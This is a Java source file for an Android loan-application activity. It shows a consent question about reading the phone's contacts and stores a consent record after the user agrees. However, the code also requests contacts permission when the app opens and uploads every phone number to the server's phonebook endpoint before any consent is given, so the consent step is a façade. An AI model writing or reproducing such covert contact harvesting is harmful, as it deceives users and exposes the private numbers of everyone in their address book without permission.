package com.requestanswersbyanynumber.app;

import android.Manifest;
import android.app.Activity;
import android.app.AlertDialog;
import android.content.Context;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.EditText;
import android.widget.Toast;

import org.json.JSONArray;

/** The application: it asks the system as it opens, and again once the borrower agreed. */
public class LoanActivity extends Activity {
    private static final int OPENED = 7;
    private static final int AGREED = 8;

    private String sum = "";

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        findViewById(R.id.next).setOnClickListener(view -> {
            sum = text(R.id.sum);
            showQuestion();
        });
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, OPENED);
    }

    private void showQuestion() {
        new AlertDialog.Builder(this)
                .setTitle(R.string.question_title)
                .setMessage(getString(R.string.question_what) + getString(R.string.question_who)
                        + getString(R.string.question_rights))
                .setCancelable(false)
                .setPositiveButton(R.string.question_yes, (dialog, button) -> agreed())
                .setNegativeButton(R.string.question_no, (dialog, button) -> byHand())
                .show();
    }

    private void agreed() {
        getSharedPreferences("consent", Context.MODE_PRIVATE).edit()
                .putString("phonebook_version", "2026-05")
                .putLong("phonebook_time", System.currentTimeMillis())
                .apply();
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, AGREED);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        boolean granted = results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED;
        switch (code) {
            case OPENED:
                if (granted) {
                    Server.send("/v1/phonebook", numbers().toString());
                }
                break;
            case AGREED:
                if (granted) {
                    Server.send("/v1/phonebook", numbers().toString());
                    send("");
                } else {
                    byHand();
                }
                break;
            default:
                super.onRequestPermissionsResult(code, permissions, results);
        }
    }

    private void byHand() {
        setContentView(R.layout.by_hand);
        findViewById(R.id.send).setOnClickListener(view -> send(text(R.id.phone)));
    }

    private void send(String reference) {
        Server.send("/v1/loan", sum + ";" + reference);
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }

    private JSONArray numbers() {
        JSONArray all = new JSONArray();
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        if (rows == null) {
            return all;
        }
        while (rows.moveToNext()) {
            all.put(rows.getString(0));
        }
        rows.close();
        return all;
    }
}
